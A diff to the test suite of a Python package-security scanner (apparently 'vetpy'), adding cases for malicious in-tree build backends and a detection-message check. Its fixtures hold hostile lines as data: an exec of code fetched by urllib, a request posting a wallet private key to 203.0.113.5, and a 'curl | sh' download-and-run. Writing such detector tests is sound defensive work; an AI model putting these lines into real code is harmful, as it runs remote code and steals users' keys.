@@ -102,6 +102,20 @@ def test_in_tree_backend(tmp_path: Path) -> None:
     quiet = b"from setuptools.build_meta import *\nimport subprocess\nsubprocess.run(['cmake', '.'])\n"
     pyproject = b'[build-system]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'
     assert kinds(sdist({"pyproject.toml": pyproject, "_build/backend.py": quiet}), "d-1.0.tar.gz") == set()
+    # fetches its own sources and builds them: a request and a process in one file, nothing fetched is run
+    builds = (
+        b"import subprocess, urllib.request\ndef build_wheel(d, c=None, m=None):\n"
+        b"    urllib.request.urlretrieve(URL, 'src.tar.gz')\n    subprocess.run(['sh', 'bootstrap'])\n"
+    )
+    assert kinds(sdist({"pyproject.toml": pyproject, "_build/backend.py": builds}), "d-1.0.tar.gz") == set()
+    # runs what it fetched
+    runs = (
+        b"import urllib.request\ndef build_wheel(d, c=None, m=None):\n"
+        b"    exec(urllib.request.urlopen(URL).read())\n"
+    )
+    assert kinds(sdist({"pyproject.toml": pyproject, "_build/backend.py": runs}), "d-1.0.tar.gz") == {
+        "build_backend"
+    }
 
 
 def test_notebook_cells_are_analysed_as_functions(tmp_path: Path) -> None:
@@ -126,6 +140,7 @@ def test_custody_exfil_from_the_features_evidence() -> None:
     helper = (
         b"import requests\n\n\ndef get_balance(address, private_key):\n"
         b"    requests.post('http://203.0.113.5:8080/b', json={'a': address, 'k': private_key})\n"
+        b"CHAIN = 'solana-mainnet'\n"
     )
     features = demo_features({"demo/client.py": helper})
     [finding] = feature_findings(features)
@@ -219,3 +234,13 @@ def test_hidden_payload_from_the_features_evidence() -> None:
     plain = b"import os\n\n\ndef update():\n    os.system('curl -s http://203.0.113.9/x.sh | sh')\n"
     features = demo_features({"demo/plugin.py": plain})
     assert feature_findings(features) == () and token_findings(features.code_text) == ()
+
+
+def test_the_co_occurrence_message_is_the_walks() -> None:
+    """policy.CO_OCCURRENCE names the walk's hit exactly (a changed message would make it count again)."""
+    from vetpy.features.source.scan import scan_source
+    from vetpy.policy import CO_OCCURRENCE
+
+    code = "import subprocess, urllib.request\nurllib.request.urlopen(U)\nsubprocess.run(['x'])\n"
+    hits = scan_source("b.py", code, data=code.encode()).examples["code.download_exec"]
+    assert [h.message for h in hits] == [CO_OCCURRENCE]
